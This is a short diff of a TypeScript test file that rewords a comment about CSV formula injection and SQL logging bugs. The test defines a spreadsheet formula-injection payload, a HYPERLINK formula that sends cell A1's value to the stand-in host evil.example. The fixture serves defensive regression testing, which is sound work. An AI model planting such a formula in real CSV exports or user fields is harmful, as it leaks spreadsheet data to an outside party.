@@ -7,7 +7,7 @@ import { toCsv } from '../modules/reports/csv.ts';
 import { adminFor, freshCompany } from '../test/fixtures.ts';
 import { bearer, freshDatabase, type TestApp, testConfig } from '../test/test-app.ts';
 
-// Issue 11, findings 4 and 6: CSV exports ran formulas typed into a narration, and a failed customer
+// The bugs these tests keep fixed: CSV exports ran formulas typed into a narration, and a failed customer
 // save logged the whole SQL with the customer's details.
 
 const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
